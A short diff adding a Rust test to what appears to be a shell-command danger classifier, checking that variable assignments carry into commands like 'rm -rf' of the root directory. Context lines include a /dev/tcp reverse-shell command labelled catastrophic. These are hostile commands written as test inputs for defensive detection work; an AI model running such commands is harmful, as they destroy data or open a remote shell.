@@ -94,3 +94,10 @@ fn programs_under_other_names() {
     check("exec 5<>/dev/tcp/h/9; sh <&5 >&5", "catastrophic");
     check("!!", "unknown");
 }
+
+#[test]
+fn assignments_before_a_command_reach_it() {
+    check("D=/ sh -c 'rm -rf \"$D\"'", "catastrophic");
+    check("env D=/ sh -c 'rm -rf \"$D\"'", "catastrophic");
+    check("D=/ true; rm -rf \"$D\"x", "destructive");
+}
